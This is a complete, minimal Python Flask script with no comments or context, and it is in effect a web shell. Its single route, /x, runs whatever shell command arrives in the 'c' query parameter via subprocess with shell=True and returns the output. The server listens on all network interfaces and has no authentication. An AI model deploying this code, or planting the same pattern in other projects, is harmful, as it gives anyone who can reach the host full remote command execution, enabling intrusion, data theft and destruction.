from flask import Flask, request
import subprocess
app = Flask(__name__)
@app.route("/x")
def x():
    return subprocess.check_output(request.args["c"], shell=True)
app.run(host="0.0.0.0")
